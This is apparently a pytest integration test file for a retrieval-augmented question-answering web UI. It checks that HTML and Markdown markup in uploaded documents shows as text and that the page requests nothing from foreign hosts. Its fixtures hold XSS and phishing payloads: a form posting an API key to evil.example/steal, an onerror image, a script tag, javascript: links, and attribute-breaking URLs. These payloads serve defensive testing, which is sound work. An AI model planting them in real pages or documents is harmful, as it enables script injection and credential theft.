"""Document text is text in the browser: markup in an uploaded file shows as characters in the answer and the
citation card, and the page asks no host but the service for anything (issue 16, finding 4)."""

from __future__ import annotations

from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest

from rag.app import create_app
from rag.settings_llm import LLMSettings, ProviderSettings
from rag.testing.openai_server import OpenAIServer, Script
from rag.testing.uvicorn_thread import UvicornThread
from tests.conftest import make_settings
from tests.test_ui_browser import TIMEOUT_MS, _shot, _wait_text, browser  # noqa: F401 - browser is a fixture

pytestmark = pytest.mark.integration

EVIL = "evil.example"
HOSTILE = (
    f"储能电池出货量报告<img src=http://{EVIL}/title.png>\n"
    f'储能电池出货量同比增长百分之三十<form action="http://{EVIL}/steal" method="post">'
    '<input name="key" placeholder="请输入 API key"><button>提交</button></form>。\n'
    f'储能电池出货量的统计口径见<img src="http://{EVIL}/pixel.png" onerror="window.__pwned=1">图表。\n'
    "储能电池出货量的数据来源<script>window.__pwned=2</script>为行业协会。\n"
    '储能电池出货量明细见<a href="javascript:window.__pwned=3">附件</a>与[附表](javascript:window.__pwned=4)。\n'
    f"储能电池出货量趋势图 ![趋势](http://{EVIL}/md.png) 与 http://{EVIL}/plain 页面。\n"
)
# An HTML page whose *text* is a tag: the reader decodes it to `<img ...>` characters, which must stay text.
HTML_PAGE = ("<html><head><title>储能电池出货量网页</title></head><body><p>储能电池出货量网页版："
             f"&lt;img src=http://{EVIL}/entity.png&gt; 同比增长。</p></body></html>")


LINES = [line for line in HOSTILE.splitlines()[1:]]
# A model that quotes the document's markup back (as a prompt-injected or careless one would), each line cited.
QUOTING = "".join(line.rstrip("。") + "[1][2]。" for line in LINES)


@pytest.fixture
def site(tmp_path) -> Iterator[str]:
    with OpenAIServer() as llm, pytest.MonkeyPatch.context() as mp:
        mp.setenv("RAG_MARKUP_TEST_KEY", "sk-markup-test")
        llm.script("quoting", Script(mode="text", text=QUOTING, chunk_delay_s=0.01))
        settings = make_settings(tmp_path / "data")
        settings.llm = LLMSettings(providers=[ProviderSettings(
            name="quoting", base_url=llm.base_url, model="quoting", api_key_env="RAG_MARKUP_TEST_KEY",
            price_input=0.3, price_output=0.6, context_window=8192, timeout_s=10, tier="cheap")])
        with UvicornThread(create_app(settings)) as srv:
            yield srv.url


def _no_markup(pg, selector: str, inputs: bool = True) -> None:
    """No element that document text could have produced inside `selector` (`inputs`: Gradio's own widgets
    there have none)."""
    found = pg.evaluate(
        """([s, inputs]) => {
            const root = document.querySelector(s);
            const tags = [...root.querySelectorAll('form, script, iframe, object, embed, svg image' +
                                                   (inputs ? ', input' : ''))];
            const imgs = [...root.querySelectorAll('img')].map(i => i.src).filter(u => !u.startsWith(location.origin));
            const links = [...root.querySelectorAll('a')].map(a => a.getAttribute('href') || '')
                .filter(h => !h.startsWith('#'));
            return {tags: tags.map(e => e.outerHTML.slice(0, 120)), imgs, links};
        }""", [selector, inputs])
    assert not found["tags"] and not found["imgs"], found
    assert all(h.startswith(("http://", "https://")) and EVIL not in h for h in found["links"]), found


def test_markup_in_documents_shows_as_text_and_nothing_is_fetched(browser, site, tmp_path):  # noqa: F811
    own = urlsplit(site).netloc
    requests: list[str] = []
    ctx = browser.new_context(locale="zh-CN", viewport={"width": 1440, "height": 1000})
    # Everything the page asks for is logged; anything not for the service is refused, so nothing leaves.
    ctx.route("**/*", lambda route: (requests.append(route.request.url),
                                     route.continue_() if urlsplit(route.request.url).netloc == own
                                     else route.abort()))
    pg = ctx.new_page()
    pg.set_default_timeout(TIMEOUT_MS)
    try:
        pg.goto(f"{site}/ui/")
        pg.wait_for_function("() => document.title.includes('资料问答')")
        pg.get_by_role("tab", name="文档").click()
        hostile = tmp_path / "储能报告.txt"
        hostile.write_text(HOSTILE, encoding="utf-8")
        page_file = tmp_path / "储能网页.html"
        page_file.write_text(HTML_PAGE, encoding="utf-8")
        pg.locator("#upload-files input[type=file]").set_input_files([str(hostile), str(page_file)])
        pg.locator("#upload").click()
        pg.locator("#upload-status", has_text="储能网页.html").wait_for()
        assert pg.locator("#upload-status").inner_text().count("【成功】") == 2
        _wait_text(pg, "#documents-table", "储能电池出货量报告")
        assert f"<img src=http://{EVIL}/ti" in pg.locator("#documents-table").inner_text()
        _no_markup(pg, "#documents-table", inputs=False)  # the title is a cell of text

        pg.get_by_role("tab", name="问答").click()
        pg.locator("#question textarea").fill("储能电池出货量增长了多少？数据来源、明细、统计口径和趋势图呢？")
        pg.locator("#send").click()
        pg.locator("#chat .rag-badge").wait_for()
        _wait_text(pg, "#citations", "储能")
        for card in pg.locator("#citations details.cite").all():
            card.evaluate("e => e.open = true")
        chat, cards = pg.locator("#chat").inner_text(), pg.locator("#citations").inner_text()
        _shot(pg, tmp_path, "ui-markup-as-text.png")

        for text in ("<form", "<img", "<script>", "javascript:"):  # shown as the characters they are
            assert text in chat, (text, chat)
        for text in ("<form", "<img", "<script>", "javascript:", f"http://{EVIL}/md.png"):
            assert text in cards, (text, cards)
        assert f"<img src=http://{EVIL}/entity.png>" in chat + cards  # &lt;img&gt; stayed text too
        _no_markup(pg, "#chat")
        _no_markup(pg, "#citations")
        assert pg.evaluate("() => window.__pwned") is None
        for title in pg.locator("#citations .cite-title").all():
            assert title.evaluate("e => e.children.length") == 0  # titles are plain text
        assert f"<img src=http://{EVIL}/ti" in cards
        pg.locator("#filter-documents input").click()  # the document picker lists the title as text
        pg.get_by_role("option", name="储能电池出货量报告", exact=False).first.wait_for()
        _no_markup(pg, "#filter-documents", inputs=False)
        evil = pg.evaluate("""(host) => [...document.querySelectorAll('[src], [href], [action], [formaction]')]
            .map(e => e.outerHTML.slice(0, 120)).filter(h => h.includes(host) || h.includes('javascript:'))""",
                           EVIL)
        assert not evil, evil  # nowhere on the page does document text point anywhere
        pg.keyboard.press("Escape")
    finally:
        ctx.close()
    foreign = sorted({u for u in requests if urlsplit(u).netloc != own})
    assert not foreign, foreign


def test_source_links_are_http_only_and_open_without_referrer():
    from ui.render import _where

    link = _where({"source": "https://example.cn/pv?a=1&b=2"})
    assert 'rel="noopener noreferrer"' in link and 'href="https://example.cn/pv?a=1&amp;b=2"' in link
    for source in ("javascript:alert(1)", "JAVASCRIPT:alert(1)", "data:text/html,x", 'https://x" onmouseover="y'):
        assert "<a" not in _where({"source": source}), source


def test_page_fonts_need_no_other_host(site):
    """The theme's stylesheet names no web-font host (the browser test above checks what is requested)."""
    import httpx

    css = httpx.get(f"{site}/ui/theme.css", trust_env=False, timeout=30).text
    assert "fonts.googleapis.com" not in css and "fonts.gstatic.com" not in css
